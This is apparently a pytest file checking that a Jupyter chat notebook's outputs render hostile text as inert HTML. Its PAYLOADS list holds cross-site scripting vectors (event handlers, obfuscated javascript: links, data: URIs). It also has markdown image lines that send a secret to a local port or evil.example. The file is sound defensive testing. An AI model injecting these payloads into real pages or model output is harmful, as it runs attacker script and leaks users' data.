"""Every notebook output path renders hostile chat text as inert HTML: no tag or attribute that
runs script, no active link, no remote fetch. (The same payloads run in a real Chromium in
``tests/browser/test_hostile_outputs.py``.)"""

from __future__ import annotations

import html
from html.parser import HTMLParser
from typing import Any

import pytest

from oui_jupyter.notebook import render, safe_html
from oui_jupyter.notebook.client import Hit

PAYLOADS = [
    "<script>window.__pwned = 1</script>",
    '<img src=x onerror="window.__pwned = 1">',
    '<details open ontoggle="window.__pwned = 1"><summary>x</summary></details>',
    "<svg onload=window.__pwned=1>",
    '<iframe src="javascript:window.__pwned=1"></iframe>',
    "[click me](javascript:window.__pwned=1)",
    "[click me](JaVaScRiPt:window.__pwned=1)",
    "[click me](java\tscript:window.__pwned=1)",
    "[click me](&#106;avascript:window.__pwned=1)",
    "[click me](vbscript:msgbox)",
    "[click me](data:text/html,<script>window.__pwned=1</script>)",
    "![exfil](http://127.0.0.1:9/exfil?d=secret)",
    "![exfil](//127.0.0.1:9/exfil)",
    "[ref image][r]\n\n![x][r]\n\n[r]: http://127.0.0.1:9/ref.png",
    '<a href="javascript:window.__pwned=1">raw link</a>',
    "| a | b |\n|---|---|\n| <b onmouseover=x>c</b> | d |",
    "`<script>window.__pwned=1</script>` and ```\n<script>window.__pwned=1</script>\n```",
    '<style>body{background:url("http://127.0.0.1:9/css")}</style>',
]
ALLOWED_TAGS = {
    "p",
    "a",
    "em",
    "strong",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "blockquote",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "s",
    "img",
    "div",
    "span",
    "b",
}


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def assert_inert(markup: str) -> None:
    parser = _Collect()
    parser.feed(markup)
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, (tag, markup)
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        assert "style" not in attrs, (tag, attrs)
        if "href" in attrs:
            assert safe_html.safe_url(attrs["href"]), attrs["href"]
            assert "script" not in attrs["href"].lower(), attrs["href"]
        if tag == "img":
            assert safe_html.remote_host(attrs.get("src", "")) is None, attrs


@pytest.mark.parametrize("payload", PAYLOADS)
def test_answers_render_inert(payload: str) -> None:
    bundle = safe_html.bundle(f"Here you go: {payload}")
    assert set(bundle) == {"text/html", "text/plain"}, (
        "no text/markdown: frontends render its raw HTML"
    )
    assert_inert(bundle["text/html"])
    assert bundle["text/plain"].endswith(payload)


def test_markdown_still_renders() -> None:
    markup = safe_html.markdown_html(
        "**bold** `code` [site](https://example.com/a) ![p](plot.png)\n\n| a |\n|---|\n| 1 |"
    )
    assert "<strong>bold</strong>" in markup and "<code>code</code>" in markup
    assert '<a href="https://example.com/a" target="_blank"' in markup
    assert '<img src="plot.png" alt="p">' in markup
    assert "<table>" in markup


def test_remote_images_become_links_naming_their_host() -> None:
    markup = safe_html.markdown_html("![chart](http://evil.example/exfil?d=secret)")
    assert "<img" not in markup
    assert (
        "image from evil.example" in markup
        and 'href="http://evil.example/exfil?d=secret"' in markup
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_chat_titles_and_model_names_render_inert(payload: str) -> None:
    chats = render.chats_bundle(
        [{"id": "c1", "title": payload}, {"id": payload, "title": "t"}], "c1"
    )
    models = render.models_bundle(
        [
            {"id": payload, "name": payload, "owned_by": payload},
            {"id": "m", "name": "ok", "available": False},
        ],
        payload,
    )
    for bundle in (chats, models):
        assert_inert(bundle["text/html"])
        assert payload.splitlines()[0] in bundle["text/plain"]
    assert f"<td>{html.escape(payload)}</td>" in chats["text/html"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_search_hits_render_inert(payload: str) -> None:
    hit = Hit(
        path=payload,
        snippet=payload,
        link="javascript:window.__pwned=1",
        cell=None,
        start_line=1,
        end_line=2,
    )
    assert_inert(render.hits_html(payload, [hit]))
    assert_inert(render.hits_html(payload, []))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sources_under_an_answer_render_inert(payload: str) -> None:
    hit = Hit(path=payload, snippet="s", link="/lab/tree/x.py", cell=None, start_line=1, end_line=2)
    assert_inert(safe_html.bundle("answer" + render.sources_markdown([hit]))["text/html"])


def test_widget_history_outputs_are_inert() -> None:
    from oui_jupyter.notebook.widgets import _markdown_output

    for payload in PAYLOADS:
        output: dict[str, Any] = _markdown_output(f"**{payload}**: {payload}")
        assert "text/markdown" not in output["data"]
        assert_inert(output["data"]["text/html"])
